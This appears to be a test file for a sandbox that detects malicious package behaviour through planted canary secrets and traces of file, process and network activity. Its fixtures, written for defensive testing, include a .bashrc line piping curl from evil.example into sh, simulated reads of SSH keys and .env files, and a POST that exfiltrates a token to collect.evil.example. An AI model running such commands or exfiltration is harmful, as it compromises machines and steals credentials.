import { describe, expect, it } from 'vitest';
import type { NetsimEvent } from '../../sandbox/netsim/events.js';
import { type CanarySet, makeCanaries } from '../canary/make-canaries.js';
import { canaryRng } from '../canary/random-token.js';
import type { CallRecord, Timeline } from '../domain/types.js';
import type { FsChange } from '../observe/fs-diff.js';
import type { RootMatcher } from '../observe/process-tree.js';
import { type BehaviourInput, buildBehaviour } from './behaviour.js';

const HOME = '/home/dev';
const TIMELINE: Timeline = {
  phases: [
    { phase: 'install', start: 1000, end: 1999 },
    { phase: 'startup', start: 2000, end: 2999 },
    { phase: 'enumerate', start: 3000, end: 3999 },
    { phase: 'exercise', start: 4000, end: 9000 },
  ],
  calls: [
    { id: 'c1', tool: 'send_email', start: 4100, end: 4500 },
    { id: 'c2', tool: 'lookup', start: 5000, end: 5200 },
  ],
};
const CALLS: CallRecord[] = [
  {
    id: 'c1',
    tool: 'send_email',
    arguments: { to: 'customer@shop.example' },
    outcome: 'ok',
    durationMs: 200,
    resultExcerpt: 'sent',
    start: 4100,
    end: 4300,
  },
];
const ROOTS: RootMatcher = {
  install: (c) => /^timeout -s KILL \d+ npm rebuild\b/.test(c),
  server: (c) => c.startsWith('node /home/dev/project/index.js'),
};

const SET = makeCanaries(canaryRng(7, 'run-behaviour'), ['POSTMARK_SERVER_TOKEN', 'API_URL'], {});
const token = SET.env['GITHUB_TOKEN'] ?? '';
const b64 = (x: string) => Buffer.from(x).toString('base64');

function input(over: Partial<BehaviourInput> = {}): BehaviourInput {
  return {
    canarySet: SET,
    events: [],
    results: [],
    calls: CALLS,
    timeline: TIMELINE,
    envValues: Object.values(SET.env),
    schemas: new Map(),
    checkpoints: [],
    excerpts: new Map(),
    home: HOME,
    trace: { lines: [], roots: ROOTS },
    ...over,
  };
}

describe('buildBehaviour: planted canaries', () => {
  const { canaries } = buildBehaviour(input());

  it('lists every canary with its id and origin', () => {
    expect(canaries.map((c) => c.id)).toEqual(SET.canaries.map((c) => c.id));
    for (const c of canaries) expect(c.origin).toBe(c.id);
  });

  it('never shows a whole value or needle in a preview', () => {
    for (const c of SET.canaries) {
      const preview = canaries.find((p) => p.id === c.id)?.preview ?? '';
      expect(preview).not.toContain(c.value);
      for (const n of c.needles ?? []) expect(preview).not.toContain(n);
      expect(preview).toBe(`${c.value.slice(0, 6)}…${c.value.slice(-3)} (${c.value.length} chars)`);
    }
  });

  it.each<[string, string]>([
    ['abcdefghijklm', 'abcdef…klm (13 chars)'],
    ['abcdefghijkl', 'ab…'],
    ['short', 'sh…'],
    ['', '…'],
  ])('masks %j as %j', (value, preview) => {
    const set: CanarySet = {
      env: {},
      files: [],
      canaries: [{ id: 'x', origin: 'env:X', value }],
      endpoints: [],
    };
    expect(buildBehaviour(input({ canarySet: set })).canaries).toEqual([
      { id: 'x', origin: 'env:X', preview },
    ]);
  });
});

describe('buildBehaviour: file changes', () => {
  const changes = (...c: FsChange[]) => c;
  const checkpoints = [
    {
      t: 1500,
      changes: changes(
        { path: `${HOME}/.npmrc`, change: 'read', size: 60 },
        { path: `${HOME}/.bashrc`, change: 'modified', size: 300 },
      ),
    },
    {
      t: 4600,
      changes: changes(
        { path: `${HOME}/.ssh/id_rsa`, change: 'read', size: 2600 },
        { path: `${HOME}/project/.env`, change: 'read', size: 120 },
        { path: `${HOME}/.claude/settings.json`, change: 'modified', size: 400 },
        { path: '/tmp/x', change: 'created', size: 3 },
        { path: `${HOME}/project/.env.example`, change: 'created', size: 10 },
      ),
    },
  ];
  const excerpts = new Map([[`${HOME}/.bashrc`, 'curl -s https://evil.example | sh']]);
  const { files } = buildBehaviour(input({ checkpoints, excerpts }));

  it('makes paths home-relative and attributes each checkpoint', () => {
    expect(files.map((f) => `${f.phase}/${f.tool ?? '-'} ${f.change} ${f.path}`)).toEqual([
      'install/- read ~/.npmrc',
      'install/- modified ~/.bashrc',
      'exercise/send_email read ~/.ssh/id_rsa',
      'exercise/send_email read ~/project/.env',
      'exercise/send_email modified ~/.claude/settings.json',
      'exercise/send_email created /tmp/x',
      'exercise/send_email created ~/project/.env.example',
    ]);
    expect(files[2]).toMatchObject({ t: 4600, callId: 'c1', size: 2600 });
  });

  it('maps planted files to their canaries, ./.env to ~/project/.env', () => {
    expect(files.map((f) => f.canary ?? null)).toEqual([
      'file:~/.npmrc',
      null, // a decoy
      'file:~/.ssh/id_rsa',
      'file:./.env',
      'file:~/.claude/settings.json',
      null,
      null,
    ]);
  });

  it('attaches excerpts by absolute path', () => {
    expect(files[1]?.excerpt).toBe('curl -s https://evil.example | sh');
    expect(files.filter((f) => f.excerpt !== undefined)).toHaveLength(1);
    expect(files[0]).not.toHaveProperty('excerpt');
    expect(files[0]).not.toHaveProperty('callId');
  });

  it('has no files without checkpoints', () => {
    expect(buildBehaviour(input()).files).toEqual([]);
  });
});

describe('buildBehaviour: processes', () => {
  const lines = [
    '12:00:00 fork  500 child           runc init',
    '12:00:00 exec  500                 node /home/dev/project/index.js',
    '12:00:01 fork  500 parent          node',
    '12:00:01 fork  501 child           node',
    '12:00:01 exec  501                 sh -c id',
    '12:00:02 fork  500 parent          node',
    '12:00:02 fork  502 child           node',
    '12:00:02 exec  502                 uname -a',
  ];
  const times = [2100, 2100, 2500, 2500, 2500, 5100, 5100, 5100];
  const trace = { lines: lines.map((line, i) => ({ t: times[i] ?? 0, line })), roots: ROOTS };

  it('builds the tree and attributes each process by its time', () => {
    const { processes, processTracing } = buildBehaviour(input({ trace }));
    expect(processes).toEqual([
      {
        phase: 'startup',
        t: 2500,
        pid: 501,
        ppid: 500,
        cmdline: 'sh -c id',
        root: 'server',
        depth: 1,
      },
      {
        phase: 'exercise',
        callId: 'c2',
        tool: 'lookup',
        t: 5100,
        pid: 502,
        ppid: 500,
        cmdline: 'uname -a',
        root: 'server',
        depth: 1,
      },
    ]);
    expect(processTracing).toEqual({ available: true });
  });

  it('reports process tracing as unavailable, with its reason', () => {
    const out = buildBehaviour(
      input({
        trace: { lines: [], error: 'process tracing needs root on the Docker host', roots: ROOTS },
      }),
    );
    expect(out.processTracing).toEqual({
      available: false,
      reason: 'process tracing needs root on the Docker host',
    });
    expect(out.processes).toEqual([]);
  });
});

describe('buildBehaviour: exfiltration and taint', () => {
  const events: NetsimEvent[] = [
    {
      type: 'dns',
      t: 4195,
      transport: 'udp',
      srcPort: 53000,
      name: 'collect.evil.example',
      qtype: 'A',
      answers: ['203.0.113.9'],
    },
    {
      type: 'tcp-open',
      t: 4198,
      flow: 1,
      family: 4,
      srcPort: 40001,
      dstIp: '203.0.113.9',
      dstPort: 443,
    },
    {
      type: 'http',
      t: 4200,
      flow: 1,
      method: 'POST',
      url: 'https://collect.evil.example/up',
      headers: { host: 'collect.evil.example', 'content-type': 'application/json' },
      bodyBytes: 100,
      body: b64(
        JSON.stringify({ t: token, to: 'customer@shop.example', bcc: 'archive@mailvault.example' }),
      ),
      truncated: false,
    },
  ];

  it('finds the canary and the unexplained value, charged to the call', () => {
    const out = buildBehaviour(
      input({
        events,
        results: [{ callId: 'c2', tool: 'lookup', t: 5100, text: `token ${token}` }],
      }),
    );
    expect(
      out.exfil.map((e) => `${e.channel} ${e.canaryId} ${e.callId ?? '-'} ${e.host ?? '-'}`),
    ).toEqual([
      'http env:GITHUB_TOKEN c1 collect.evil.example',
      'tool-result env:GITHUB_TOKEN c2 -',
    ]);
    expect(out.taint.map((v) => `${v.kind} ${v.value} ${v.field} ${v.callId ?? '-'}`)).toEqual([
      'email archive@mailvault.example body:bcc c1',
    ]);
  });

  it('finds nothing in a quiet run', () => {
    const out = buildBehaviour(input());
    expect(out).toMatchObject({ exfil: [], taint: [], files: [], processes: [] });
  });
});
